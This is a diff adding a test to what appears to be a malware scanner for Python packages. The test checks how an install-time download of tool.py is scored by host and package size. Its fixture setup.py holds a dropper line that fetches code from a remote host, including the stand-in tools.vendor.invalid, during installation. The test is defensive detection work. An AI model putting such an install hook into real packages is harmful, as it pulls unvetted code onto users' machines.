@@ -458,3 +458,24 @@ test('on call the host of a vendor is known where its address has no path', asyn
     { class: 'malware', score: 10 },
   ]);
 });
+
+test('code from a code host beside its own is for a person to judge in the build of a large project alone', async () => {
+  const built = (address: string, size: number): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      sdist({
+        'setup.py': python(
+          'import os, urllib.request',
+          'from setuptools import setup',
+          `urllib.request.urlretrieve('${address}', os.path.join(os.path.dirname(__file__), 'tool.py'))`,
+          'setup()',
+        ),
+        'pkg/__init__.py': 'VALUE = 1\n'.repeat(size / 10),
+      }),
+    );
+  const kept = 'https://raw.githubusercontent.com/example/library/main/tool.py';
+
+  expect(await built(kept, 300_000)).toMatchObject([{ class: 'suspicious', score: 7 }]);
+  expect(await built(kept, 3_000)).toMatchObject([{ class: 'malware', score: 10 }]);
+  expect(await built('https://tools.vendor.invalid/tool.py', 300_000)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
